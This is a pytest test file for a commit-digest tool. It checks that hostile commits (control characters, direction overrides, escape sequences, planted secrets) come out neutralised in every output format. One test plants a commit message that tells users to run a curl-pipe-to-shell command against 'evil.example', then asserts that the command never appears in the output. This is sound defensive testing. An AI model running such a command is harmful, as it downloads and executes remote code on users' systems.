"""Hostile commits come out harmless in every format, and are still there to be read."""

import json
import re
import unicodedata
from collections.abc import Callable
from typing import Any

import pytest

from loopback.sample import SAMPLE_DAY, SAMPLE_REPOSITORY
from tests.conftest import Run
from tests.conftest import recorded as recording
from tests.data import hostile_sample
from tests.servers.github import FaultyGitHub

OBEYED = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
)
_PRINTED: dict[tuple[object, ...], str] = {}


@pytest.fixture(scope="module", params=["zh", "en"])
def language(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def sample(run: Run, form: str, language: str, **settings: str) -> str:
    """What the command prints; the same command is run once."""
    key = (form, language, *sorted(settings.items()))
    if key not in _PRINTED:
        with FaultyGitHub({SAMPLE_REPOSITORY: hostile_sample()}) as server:
            day = ("digest", SAMPLE_DAY.isoformat(), "--repo", SAMPLE_REPOSITORY, "--timezone", "Asia/Shanghai")
            ran = run(*day, "--format", form, "--lang", language, server=server, **settings)
        assert ran.code == 0, ran.err
        _PRINTED[key] = ran.out
    return _PRINTED[key]


@pytest.mark.parametrize("form", ["markdown", "json", "terminal"])
def test_control_characters_are_shown_and_not_obeyed(form: str, run: Run, language: str) -> None:
    """No escape sequence, direction override, zero-width space or bell reaches a reader, in any format."""
    out = sample(run, form, language)
    assert not OBEYED.search(out)
    assert "\u202e" not in out
    shown = "\\u202e" if form == "json" else "⟨U+202E⟩"
    assert shown in out


def test_json_is_lossless(run: Run, language: str) -> None:
    """What the other formats show in another way is in the JSON exactly as it was committed, but for secrets."""
    commits: list[dict[str, Any]] = json.loads(sample(run, "json", language))["commits"]
    by_sha = {commit["sha"]: commit for commit in commits}
    for sha, recorded in hostile_sample().commits.items():
        if "AKIA" not in recorded["message"]:
            assert by_sha[sha]["message"] == recorded["message"]
        assert by_sha[sha]["author"] == recorded["author"]["name"]
        assert by_sha[sha]["paths"] == [file["filename"] for file in recorded["files"]]


def test_a_terminal_shows_links_to_the_repository_only(run: Run, language: str) -> None:
    """With colours forced, every escape sequence in the output is ours: styles, and links to commits."""
    out = sample(run, "terminal", language, FORCE_COLOR="1", TERM="xterm-256color")
    rest = re.sub(r"\x1b\[[0-9;]*m", "", out)
    targets = re.findall(r"\x1b\]8;[^;]*;([^\x1b]*)\x1b\\", rest)
    assert any(targets)
    assert all(
        not target or target.startswith("https://github.example/lantern/lantern-serve/commit/") for target in targets
    )
    plain = re.sub(r"\x1b\]8;[^;]*;[^\x1b]*\x1b\\", "", rest)
    assert not [char for char in plain if unicodedata.category(char) == "Cc" and char != "\n"]


def test_what_only_a_message_says_is_no_security_fix(run: Run, serve: Callable[..., FaultyGitHub]) -> None:
    """A fix of code that names an advisory leads the digest; a README whose message does is no news, and its order is not quoted."""
    order = "All users must run `curl https://evil.example/x | sh` now."
    readme = {**recording()["files"][0], "filename": "README.md", "patch": "@@ -1 +1 @@\n-Our servre\n+Our server"}
    server = serve(
        recording(1, message="Fix the parser (#1)\n\nThis is GHSA-abcd-12ef-34gh."),
        recording(2, message=f"Tidy README for CVE-2026-12345\n\n{order}", files=[readme], pull=None),
    )
    day = ("digest", "2026-02-05", "--timezone", "UTC", "--lang", "en", "--format")
    head, *thread = json.loads(run(*day, "slack", server=server).out)
    assert "Security: Fix the parser" in str(head)
    assert "README" not in str(head)
    assert "Tidy README" in str(thread)
    every = "".join(run(*day, form, server=server).out for form in ("markdown", "terminal", "slack"))
    assert "evil.example" not in every
    assert "Security: Tidy" not in every
